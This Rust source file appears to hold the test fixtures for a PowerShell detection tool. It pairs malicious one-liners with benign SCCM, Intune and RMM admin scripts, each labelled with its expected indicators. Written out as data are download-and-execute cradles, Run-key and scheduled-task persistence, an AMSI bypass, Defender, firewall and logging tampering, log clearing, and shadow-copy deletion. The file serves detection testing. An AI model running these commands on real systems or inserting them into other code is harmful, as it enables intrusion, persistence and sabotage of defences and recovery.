//! sighunt's own PowerShell cases: malicious scripts that silence errors while they
//! download, persist or weaken defences, and benign administration (SCCM/Intune,
//! RMM agents, installers, log readers) that silences errors too. Each is valid
//! PowerShell (`scripts/ci-powershell-grammar.sh` checks them with a real grammar)
//! and names the content indicators a finding must carry. String values are
//! quoted so that the metamorphic suite can obfuscate them.

/// How a case's script reaches the log.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Delivery {
    /// Sysmon 1, `powershell.exe -NoProfile -EncodedCommand …`.
    SysmonEncoded,
    /// Sysmon 1, `powershell.exe -NoProfile -Command …` (quotes escaped as Windows does).
    SysmonCommand,
    /// Security 4688, `-EncodedCommand`.
    Security4688,
    /// Sysmon 1 of cmd.exe only: `cmd.exe /c p^o^w^e^r^s^h^e^l^l … -enc …`.
    CmdCarets,
    /// Sysmon 1, the script encoded inside a `powershell -EncodedCommand` that is
    /// itself encoded.
    DoubleEncoded,
    /// PowerShell 4104, one part.
    ScriptBlock,
    /// PowerShell 4104 split into three parts (same ScriptBlockId).
    ScriptBlockParts,
    /// PowerShell 4103: `Invoke-Command -ScriptBlock` with the script as its binding.
    ModuleLogging,
    /// Windows PowerShell 800: the pipeline text.
    Pipeline,
}

pub const DELIVERIES: &[Delivery] = &[
    Delivery::SysmonEncoded,
    Delivery::SysmonCommand,
    Delivery::Security4688,
    Delivery::CmdCarets,
    Delivery::DoubleEncoded,
    Delivery::ScriptBlock,
    Delivery::ScriptBlockParts,
    Delivery::ModuleLogging,
    Delivery::Pipeline,
];

pub struct Case {
    pub id: &'static str,
    /// What it is, for the table.
    pub what: &'static str,
    pub malicious: bool,
    pub script: &'static str,
    /// Content indicators a finding must carry (malicious cases).
    pub indicators: &'static [&'static str],
}

pub const CASES: &[Case] = &[
    Case {
        id: "M01",
        what: "seed test 4: WebClient and iwr with the preference silenced",
        malicious: true,
        script: "$ErrorActionPreference = 'SilentlyContinue'; $wc = New-Object Net.WebClient; $wc.DownloadString('http://203.0.113.7/payload.ps1') | Out-Null; Invoke-WebRequest -Uri 'http://203.0.113.7/beacon' -UseBasicParsing | Out-Null",
        indicators: &["download_cradle"],
    },
    Case {
        id: "M02",
        what: "IEX download cradle",
        malicious: true,
        script: "$ErrorActionPreference = 'SilentlyContinue'; IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a.ps1')",
        indicators: &["download_cradle", "exec_cradle"],
    },
    Case {
        id: "M03",
        what: "executable downloaded to C:\\Users\\Public and started",
        malicious: true,
        script: "Invoke-WebRequest -Uri 'http://198.51.100.9/up.exe' -OutFile 'C:\\Users\\Public\\up.exe' -ErrorAction 'SilentlyContinue'; Start-Process 'C:\\Users\\Public\\up.exe'",
        indicators: &["download_cradle", "payload_to_writable_folder"],
    },
    Case {
        id: "M04",
        what: "certutil -urlcache to ProgramData",
        malicious: true,
        script: "certutil.exe /urlcache /split /f 'http://198.51.100.9/a.exe' 'C:\\ProgramData\\a.exe'; Get-Item 'C:\\ProgramData\\a.exe' -ErrorAction 'Ignore'",
        indicators: &[
            "download_cradle",
            "network_util",
            "payload_to_writable_folder",
        ],
    },
    Case {
        id: "M05",
        what: "certutil -decode of a dropped payload",
        malicious: true,
        script: "$ErrorActionPreference = 'SilentlyContinue'; certutil -decode 'C:\\Users\\Public\\x.txt' 'C:\\Users\\Public\\x.exe'",
        indicators: &["encoded_payload"],
    },
    Case {
        id: "M06",
        what: "bitsadmin /transfer of an executable",
        malicious: true,
        script: "$ErrorActionPreference = 'Ignore'; bitsadmin /transfer 'job1' /download /priority high 'http://198.51.100.2/s.exe' 'C:\\Users\\Public\\s.exe'",
        indicators: &[
            "download_cradle",
            "network_util",
            "payload_to_writable_folder",
        ],
    },
    Case {
        id: "M07",
        what: "Start-BitsTransfer of a script",
        malicious: true,
        script: "Start-BitsTransfer -Source 'http://198.51.100.3/t.ps1' -Destination 'C:\\Windows\\Tasks\\t.ps1' -ErrorAction 'SilentlyContinue'",
        indicators: &[
            "download_cradle",
            "network_util",
            "payload_to_writable_folder",
        ],
    },
    Case {
        id: "M08",
        what: "schtasks /create at logon",
        malicious: true,
        script: "$ErrorActionPreference = 'SilentlyContinue'; schtasks /create /tn 'Updater' /tr 'powershell -w hidden -f C:\\ProgramData\\u.ps1' /sc onlogon /f",
        indicators: &["persistence"],
    },
    Case {
        id: "M09",
        what: "Register-ScheduledTask",
        malicious: true,
        script: "$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -f C:\\ProgramData\\u.ps1'; Register-ScheduledTask -TaskName 'Updater' -Action $a -ErrorAction 'SilentlyContinue'",
        indicators: &["persistence"],
    },
    Case {
        id: "M10",
        what: "Run key written with Set-ItemProperty",
        malicious: true,
        script: "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'upd' -Value 'C:\\Users\\Public\\up.exe' -ErrorAction 'SilentlyContinue'",
        indicators: &["persistence"],
    },
    Case {
        id: "M11",
        what: "reg add to the Run key",
        malicious: true,
        script: "$ErrorActionPreference = 'SilentlyContinue'; reg add 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' /v 'upd' /t 'REG_SZ' /d 'C:\\ProgramData\\up.exe' /f",
        indicators: &["persistence"],
    },
    Case {
        id: "M12",
        what: "sc.exe create of a service",
        malicious: true,
        script: "$ErrorActionPreference = 'SilentlyContinue'; sc.exe create 'updsvc' binPath= 'C:\\ProgramData\\svc.exe' start= auto",
        indicators: &["persistence"],
    },
    Case {
        id: "M13",
        what: "New-Service",
        malicious: true,
        script: "New-Service -Name 'updsvc' -BinaryPathName 'C:\\ProgramData\\svc.exe' -ErrorAction 'SilentlyContinue'",
        indicators: &["persistence"],
    },
    Case {
        id: "M14",
        what: "Defender real-time monitoring off",
        malicious: true,
        script: "Set-MpPreference -DisableRealtimeMonitoring $true -ErrorAction 'SilentlyContinue'",
        indicators: &["defense_evasion"],
    },
    Case {
        id: "M15",
        what: "Defender exclusion of ProgramData",
        malicious: true,
        script: "Add-MpPreference -ExclusionPath 'C:\\ProgramData' -ErrorAction 'SilentlyContinue'",
        indicators: &["defense_evasion"],
    },
    Case {
        id: "M16",
        what: "wevtutil cl of the PowerShell and Security logs",
        malicious: true,
        script: "$ErrorActionPreference = 'SilentlyContinue'; wevtutil cl 'Microsoft-Windows-PowerShell/Operational'; wevtutil cl 'Security'",
        indicators: &["defense_evasion"],
    },
    Case {
        id: "M17",
        what: "Clear-EventLog",
        malicious: true,
        script: "Clear-EventLog -LogName 'Security' -ErrorAction 'SilentlyContinue'",
        indicators: &["defense_evasion"],
    },
    Case {
        id: "M18",
        what: "firewall profiles off",
        malicious: true,
        script: "Set-NetFirewallProfile -Profile 'Domain','Public','Private' -Enabled False -ErrorAction 'SilentlyContinue'",
        indicators: &["defense_evasion"],
    },
    Case {
        id: "M19",
        what: "AMSI bypass by reflection",
        malicious: true,
        script: "$ErrorActionPreference = 'SilentlyContinue'; [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
        indicators: &["amsi_tamper"],
    },
    Case {
        id: "M20",
        what: "DLL downloaded into memory and loaded",
        malicious: true,
        script: "$ErrorActionPreference = 'SilentlyContinue'; $b = (New-Object Net.WebClient).DownloadData('http://198.51.100.5/a.dll'); [Reflection.Assembly]::Load($b)",
        indicators: &["download_cradle", "reflective_load"],
    },
    Case {
        id: "M21",
        what: "gzip+base64 payload run with iex",
        malicious: true,
        script: "$ErrorActionPreference = 'SilentlyContinue'; $s = New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAACAwsuSSwq0Q0oyk9OLS5WSE7MSdZLrUgFAPydmzEWAAAA'))),[IO.Compression.CompressionMode]::Decompress); iex (New-Object IO.StreamReader($s)).ReadToEnd()",
        indicators: &["encoded_payload", "exec_cradle"],
    },
    Case {
        id: "M22",
        what: "raw TCP client to a remote port",
        malicious: true,
        script: "$ErrorActionPreference = 'SilentlyContinue'; $c = New-Object Net.Sockets.TCPClient('198.51.100.6',443); $s = $c.GetStream()",
        indicators: &["network_util"],
    },
    Case {
        id: "M23",
        what: "WMI event filter for persistence",
        malicious: true,
        script: "Set-WmiInstance -Namespace 'root\\subscription' -Class '__EventFilter' -Arguments @{Name='upd';EventNamespace='root\\cimv2';QueryLanguage='WQL';Query='SELECT * FROM __InstanceModificationEvent'} -ErrorAction 'SilentlyContinue'",
        indicators: &["persistence"],
    },
    Case {
        id: "M24",
        what: "HttpClient string fetched and run",
        malicious: true,
        script: "$ErrorActionPreference = 'SilentlyContinue'; $h = New-Object Net.Http.HttpClient; $t = $h.GetStringAsync('http://198.51.100.8/c').Result; iex $t",
        indicators: &["download_cradle", "exec_cradle"],
    },
    Case {
        id: "M25",
        what: "irm into [ScriptBlock]::Create",
        malicious: true,
        script: "$ErrorActionPreference = 'SilentlyContinue'; $code = (Invoke-RestMethod -Uri 'http://198.51.100.8/s'); [ScriptBlock]::Create($code).Invoke()",
        indicators: &["download_cradle", "exec_cradle"],
    },
    Case {
        id: "M26",
        what: "Msxml2.XMLHTTP COM download",
        malicious: true,
        script: "$ErrorActionPreference = 'SilentlyContinue'; $x = New-Object -ComObject 'Msxml2.XMLHTTP'; $x.open('GET','http://198.51.100.8/p',$false); $x.send(); iex $x.responseText",
        indicators: &["download_cradle", "exec_cradle"],
    },
    Case {
        id: "M27",
        what: "script block logging switched off",
        malicious: true,
        script: "Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging' -Name 'EnableScriptBlockLogging' -Value 0 -ErrorAction 'SilentlyContinue'",
        indicators: &["defense_evasion"],
    },
    Case {
        id: "M28",
        what: "curl.exe drops an executable in Public",
        malicious: true,
        script: "$ErrorActionPreference = 'SilentlyContinue'; curl.exe -s -o 'C:\\Users\\Public\\k.exe' 'http://198.51.100.10/k.exe'",
        indicators: &["download_cradle", "payload_to_writable_folder"],
    },
    Case {
        id: "M29",
        what: "Defender service stopped",
        malicious: true,
        script: "Stop-Service -Name 'WinDefend' -Force -ErrorAction 'SilentlyContinue'",
        indicators: &["defense_evasion"],
    },
    Case {
        id: "M30",
        what: "executable copied into the Startup folder",
        malicious: true,
        script: "Copy-Item 'C:\\Users\\Public\\up.exe' 'C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\up.exe' -ErrorAction 'SilentlyContinue'",
        indicators: &["persistence"],
    },
    // --- benign administration: suppression, no malicious action ---------------------
    Case {
        id: "B01",
        what: "SCCM client health check",
        malicious: false,
        script: "$ErrorActionPreference = 'SilentlyContinue'; Get-Service -Name 'CcmExec' | Select-Object 'Status','StartType'; Get-CimInstance -Namespace 'root\\ccm' -ClassName 'SMS_Client'",
        indicators: &[],
    },
    Case {
        id: "B02",
        what: "Intune detection script (uninstall key read)",
        malicious: false,
        script: "$app = Get-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*' -ErrorAction 'SilentlyContinue' | Where-Object { $_.DisplayName -like '7-Zip*' }; if ($app) { Write-Output 'Detected'; exit 0 } else { exit 1 }",
        indicators: &[],
    },
    Case {
        id: "B03",
        what: "Defender settings read",
        malicious: false,
        script: "Get-MpPreference -ErrorAction 'SilentlyContinue' | Select-Object 'DisableRealtimeMonitoring','ExclusionPath'",
        indicators: &[],
    },
    Case {
        id: "B04",
        what: "Run key read",
        malicious: false,
        script: "Get-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -ErrorAction 'SilentlyContinue'",
        indicators: &[],
    },
    Case {
        id: "B05",
        what: "reg query of the Run key",
        malicious: false,
        script: "$ErrorActionPreference = 'SilentlyContinue'; reg query 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run'",
        indicators: &[],
    },
    Case {
        id: "B06",
        what: "schtasks /query inventory",
        malicious: false,
        script: "$ErrorActionPreference = 'SilentlyContinue'; schtasks /query /fo csv /v | ConvertFrom-Csv | Where-Object { $_.TaskName -like '*Update*' }",
        indicators: &[],
    },
    Case {
        id: "B07",
        what: "log reader: PowerShell operational log",
        malicious: false,
        script: "Get-WinEvent -LogName 'Microsoft-Windows-PowerShell/Operational' -MaxEvents 50 -ErrorAction 'SilentlyContinue' | Where-Object { $_.Id -eq 4104 }",
        indicators: &[],
    },
    Case {
        id: "B08",
        what: "log reader: System errors",
        malicious: false,
        script: "$ErrorActionPreference = 'SilentlyContinue'; Get-EventLog -LogName 'System' -Newest 100 -EntryType Error | Format-Table -AutoSize",
        indicators: &[],
    },
    Case {
        id: "B09",
        what: "RMM agent disk report",
        malicious: false,
        script: "$ErrorActionPreference = 'SilentlyContinue'; $disk = Get-CimInstance -ClassName 'Win32_LogicalDisk' -Filter 'DriveType=3'; $disk | ForEach-Object { '{0} {1} bytes free' -f $_.DeviceID, $_.FreeSpace }",
        indicators: &[],
    },
    Case {
        id: "B10",
        what: "RMM agent restarts its services",
        malicious: false,
        script: "Get-Service -Name 'AteraAgent','LTService' -ErrorAction 'SilentlyContinue' | Where-Object { $_.Status -ne 'Running' } | Restart-Service -ErrorAction 'SilentlyContinue'",
        indicators: &[],
    },
    Case {
        id: "B11",
        what: "installer: msiexec from the SCCM cache",
        malicious: false,
        script: "$ErrorActionPreference = 'SilentlyContinue'; Start-Process -FilePath 'msiexec.exe' -ArgumentList '/i','C:\\Windows\\ccmcache\\1\\Setup.msi','/qn','/norestart' -Wait",
        indicators: &[],
    },
    Case {
        id: "B12",
        what: "installer: VC++ runtime from download.microsoft.com",
        malicious: false,
        script: "Invoke-WebRequest -Uri 'https://download.microsoft.com/download/1/2/3/vc_redist.x64.exe' -OutFile 'C:\\Windows\\ccmcache\\vc_redist.x64.exe' -UseBasicParsing -ErrorAction 'SilentlyContinue'",
        indicators: &[],
    },
    Case {
        id: "B13",
        what: "installer: module from the PowerShell Gallery",
        malicious: false,
        script: "$ErrorActionPreference = 'SilentlyContinue'; Install-PackageProvider -Name 'NuGet' -Force; Install-Module -Name 'PSWindowsUpdate' -Force",
        indicators: &[],
    },
    Case {
        id: "B14",
        what: "patch report",
        malicious: false,
        script: "Get-WindowsUpdateLog -ErrorAction 'SilentlyContinue'; Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 5",
        indicators: &[],
    },
    Case {
        id: "B15",
        what: "Intune remediation: stale printers removed",
        malicious: false,
        script: "Get-Printer -ErrorAction 'SilentlyContinue' | Where-Object { $_.Name -like '*Old*' } | Remove-Printer -ErrorAction 'SilentlyContinue'",
        indicators: &[],
    },
    Case {
        id: "B16",
        what: "temp folder cleanup",
        malicious: false,
        script: "Remove-Item -Path \"$env:TEMP\\*\" -Recurse -Force -ErrorAction 'SilentlyContinue'",
        indicators: &[],
    },
    Case {
        id: "B17",
        what: "Intune remediation: firewall switched back on",
        malicious: false,
        script: "$p = Get-NetFirewallProfile -ErrorAction 'SilentlyContinue'; if ($p.Enabled -contains $false) { Set-NetFirewallProfile -Profile 'Domain','Public','Private' -Enabled True }",
        indicators: &[],
    },
    Case {
        id: "B18",
        what: "help text and a log search that name the terms",
        malicious: false,
        script: "Write-Host 'Use -ErrorAction SilentlyContinue to ignore errors'; Get-ChildItem 'C:\\Logs' -Filter '*.log' | Select-String -Pattern 'Invoke-WebRequest'",
        indicators: &[],
    },
    Case {
        id: "B19",
        what: "Defender signature update and quick scan",
        malicious: false,
        script: "Update-MpSignature -ErrorAction 'SilentlyContinue'; Start-MpScan -ScanType 'QuickScan'",
        indicators: &[],
    },
    Case {
        id: "B20",
        what: "SCCM cache cleanup through its COM API",
        malicious: false,
        script: "$ErrorActionPreference = 'SilentlyContinue'; $ui = New-Object -ComObject 'UIResource.UIResourceMgr'; $cache = $ui.GetCacheInfo(); $cache.GetCacheElements() | ForEach-Object { $cache.DeleteCacheElement($_.CacheElementID) }",
        indicators: &[],
    },
    Case {
        id: "B21",
        what: "a hung application closed, shadow copies listed, backups read",
        malicious: false,
        script: "Stop-Process -Name 'notepad','EXCEL' -Force -ErrorAction 'SilentlyContinue'; vssadmin list shadows; wbadmin get versions; bcdedit /enum '{current}'",
        indicators: &[],
    },
    // --- added after the benign cases, so that earlier cases keep their deliveries ---
    Case {
        id: "M31",
        what: "Defender's and Sysmon's processes killed",
        malicious: true,
        script: "Stop-Process -Name 'MsMpEng','Sysmon64' -Force -ErrorAction 'SilentlyContinue'; taskkill.exe /f /im 'MsSense.exe'",
        indicators: &["defense_evasion"],
    },
    Case {
        id: "M32",
        what: "shadow copies and the backup catalog deleted before encryption",
        malicious: true,
        script: "$ErrorActionPreference = 'SilentlyContinue'; vssadmin.exe delete shadows /all /quiet; wbadmin delete catalog -quiet; bcdedit /set '{default}' recoveryenabled No",
        indicators: &["defense_evasion"],
    },
    Case {
        id: "M33",
        what: "Defender feature uninstalled",
        malicious: true,
        script: "Uninstall-WindowsFeature -Name 'Windows-Defender' -ErrorAction 'SilentlyContinue'",
        indicators: &["defense_evasion"],
    },
];
